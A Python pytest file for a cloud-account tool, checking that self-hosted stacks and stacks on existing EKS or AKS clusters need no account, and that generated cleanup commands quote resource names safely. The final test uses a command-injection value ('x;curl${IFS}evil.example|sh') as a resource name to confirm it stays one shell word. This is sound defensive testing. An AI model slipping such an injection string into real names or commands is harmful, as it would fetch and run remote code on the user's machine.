"""Stacks of which no cloud account is asked: the commands say so."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from importlib import import_module
from pathlib import Path

import pytest

from account import left
from account.asking import AccountError
from account.command import CLOUDS, account_of
from account.left import leftovers_of
from components.settings import Settings, from_stack_file
from tests.stacks import EXISTING, GROUPS_ALONE_ON_EKS, OWN_MACHINES, POOLS_ALONE_ON_AKS, POOLS_ALONE_ON_EKS


@pytest.mark.parametrize("ask", [account_of, leftovers_of])
@pytest.mark.parametrize("file", [OWN_MACHINES, EXISTING], ids=lambda file: file.stem)
def test_machines_of_ones_own_are_in_no_account(file: Path, ask: Callable[[Settings], object]) -> None:
    with pytest.raises(AccountError, match="no cloud account has its machines"):
        ask(from_stack_file(file))


@pytest.mark.parametrize(
    "file", [POOLS_ALONE_ON_EKS, GROUPS_ALONE_ON_EKS, POOLS_ALONE_ON_AKS], ids=lambda file: file.stem
)
def test_on_a_cluster_of_others_nobody_asks_for_the_rights_to_make_one(file: Path) -> None:
    settings = from_stack_file(file)
    opened = import_module(f"{CLOUDS}.{settings.cloud}.questions").opened
    with pytest.raises(AccountError, match="its cluster is there"):
        opened(settings)


def test_a_command_that_removes_what_is_left_holds_its_id_as_one_word() -> None:
    """Whoever may name things in the account chooses it."""
    named = "x;curl${IFS}evil.example|sh"
    (row,) = left.question("groups", "list", lambda: [left.Left(named)], "aws delete --name", region="--region r").ask()
    command = row.remedy.partition("`")[2].rpartition("`")[0]
    assert shlex.split(command) == ["aws", "delete", "--name", named, "--region", "r"]
